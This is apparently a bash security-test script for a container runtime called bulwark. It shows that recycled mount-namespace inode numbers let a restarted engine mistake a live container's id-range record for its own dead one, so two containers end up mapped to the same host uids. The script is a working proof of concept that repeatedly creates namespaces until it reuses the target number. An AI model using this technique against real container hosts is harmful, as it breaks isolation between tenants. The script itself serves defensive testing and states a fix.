#!/bin/bash
# Attack: an id-range record names the mount namespace its state root was
# seen in by the namespace's inode number ("mntns", idrange.c self_mntns),
# and a record whose mntns equals the reader's is judged by stat(ROOT/ID)
# in the reader's namespace (idrange.c foreign, alive, default_alive). But
# nsfs inode numbers are recycled: the kernel hands a new namespace the
# lowest free number (proc_inum, an ida), so once the namespace that made
# the record is gone, the next mount namespace created very likely gets
# the same number. Scenario: an engine (a service with PrivateTmp=, its
# state root on a tmpfs of its own namespace) starts container A and is
# restarted; A runs on, orphaned. The restarted engine gets a fresh
# namespace with A's recorded mntns number and a fresh, empty state root;
# A's record now looks like its own and dead (no ROOT/ID there), so the
# range_mapped() check that protects foreign records is skipped, and its
# next container on the same rootfs takes A's live range.
# Runs in a private mount namespace with a tmpfs id-range store. A's state
# root is a bind mount (in A's namespace only) of a directory the script
# keeps, so that it can delete A afterwards.
# Expected safe outcome: B gets a range of its own (a record of a namespace
#   that may be gone must not be judged by a path: also check
#   range_mapped, or name the namespace by something not recycled).
# Observed (2026-12-07): A's namespace and B's are both mnt:[4026532252] (no holder needed);
#   A and B both map 0 -> the same host uid, A still running.
set -u
source "$(dirname "$0")/lib.sh"
private_store "$@"
setup_bundle
AREAL=$(mktemp -d /tmp/atk18b-nsA-real.XXXXXX); BREAL=$(mktemp -d /tmp/atk18b-nsB-real.XXXXXX)
RS=$(mktemp -d /tmp/atk18b-engine.XXXXXX)   # the engine's state root path (private per namespace)
A=atk18b-a-$$; B=atk18b-b-$$
cleanup() {
  "$BULWARK" --root "$AREAL" delete --force "$A" >/dev/null 2>&1
  "$BULWARK" --root "$BREAL" delete --force "$B" >/dev/null 2>&1
  rm -rf "$AREAL" "$BREAL" "$RS"; teardown_bundle
}
trap cleanup EXIT
config_edit '.process.args=["sleep","1830"]'
engine() { # engine ROOT ID: a restartable engine in a mount namespace of its own
  unshare -m --propagation private bash -c "mount --bind '$1' '$RS' && readlink /proc/self/ns/mnt &&
    '$BULWARK' --root '$RS' run -d --bundle '$BUNDLE' '$2' </dev/null >/dev/null 2>&1"
}
NSA=$(engine "$AREAL" "$A")
PA=$("$BULWARK" --root "$AREAL" state "$A" | jq -r .pid)
echo "engine run 1 ($NSA) started A: pid $PA, uid_map $(cat /proc/"$PA"/uid_map)"
jq -c '{owner,root,mntns}' /var/lib/bulwark/*/*.json 2>/dev/null || ls -R /var/lib/bulwark
"$BULWARK" --root "$RS" gc --dry-run   # from the host namespace: A's record is foreign and mapped, kept
# The restarted engine: its new namespace gets the lowest free nsfs number.
# Other jobs on this host may have freed lower numbers meanwhile; each try
# that gets one keeps it (a sleeping process), as a quiet host would not
# have freed it, until a try gets A's number or passes it.
HOLD=()
NSB=""
for _ in $(seq 200); do
  f=$(mktemp /tmp/atk18b-try.XXXXXX)
  unshare -m --propagation private bash -c "n=\$(readlink /proc/self/ns/mnt); echo \$n >'$f'
    [[ \$n == '$NSA' ]] || exec sleep 600
    mount --bind '$BREAL' '$RS' && '$BULWARK' --root '$RS' run -d --bundle '$BUNDLE' '$B' </dev/null >/dev/null 2>&1
    echo done >>'$f'" &
  pid=$!
  for _ in $(seq 100); do [[ -s $f ]] && break; sleep 0.05; done
  n=$(head -1 "$f")
  if [[ $n == "$NSA" ]]; then wait "$pid"; NSB=$n; rm -f "$f"; break; fi
  HOLD+=("$pid"); rm -f "$f"
  (( ${n//[^0-9]/} > ${NSA//[^0-9]/} )) && break
done
echo "held ${#HOLD[@]} lower namespace numbers freed by others meanwhile"
for h in "${HOLD[@]}"; do kill "$h" 2>/dev/null; done; wait 2>/dev/null
[[ -n $NSB ]] || { verdict SAFE "inconclusive: no new namespace got A's number $NSA (busy host)"; exit 0; }
PB=$("$BULWARK" --root "$BREAL" state "$B" | jq -r .pid)
echo "engine run 2 ($NSB) started B: pid $PB, uid_map $(cat /proc/"$PB"/uid_map)"
ua=$(awk '{print $2}' /proc/"$PA"/uid_map); ub=$(awk '{print $2}' /proc/"$PB"/uid_map)
if kill -0 "$PA" && [[ -n $ua && $ua == "$ub" ]]; then
  verdict BROKEN "two live containers share host uids $ua.. (B's namespace reused A's mount namespace number $NSA, so A's live record was judged by B's empty state root)"
else
  verdict SAFE "A has $ua.., B has $ub.. (namespaces $NSA, $NSB)"
fi
